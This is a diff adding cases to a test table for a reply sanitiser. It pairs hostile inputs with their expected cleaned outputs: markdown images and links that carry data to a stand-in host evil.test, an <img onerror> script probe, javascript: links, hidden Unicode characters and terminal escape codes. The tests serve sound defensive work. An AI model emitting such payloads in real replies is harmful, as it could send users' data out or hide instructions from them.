@@ -24,6 +24,13 @@ describe('ReplySanitiser', () => {
     ['an address without a scheme', '![x](//evil.test/a?d=1)', '[x] (//evil.test/a?d=1)'],
     ['markup', '<img src=x onerror=alert(1)></p><!-- c --><?x', '＜img src=x onerror=alert(1)>＜/p>＜!-- c -->＜?x'],
     ['a bare address with data', 'see https://evil.test/a?d=1, ok', 'see https://evil.test/a, ok'],
+    [
+      'an image whose mark an address hid',
+      'www.e.test/p!?d=1[x](https://e.test/p)',
+      'https://www.e.test/p! [x](https://e.test/p)',
+    ],
+    ['a question mark spelt as a reference', 'https://evil.test/a&#x3f;d=1', 'https://evil.test/a&'],
+    ['an address without a host', 'https://a.test(@)', '…'],
     ['a definition in a quotation', '> [r]: javascript:x', '> [r] : javascript:x'],
     ['hidden text', 'a\u200bb\u202ec\u{e0041}\u{e0042}d\u{e0101}e\ufe01', 'abcde'],
     ['commands to a terminal', 'a\u001b[31mred\u001b]0;title\u0007b\u009bc\u0000d', 'aredbcd'],
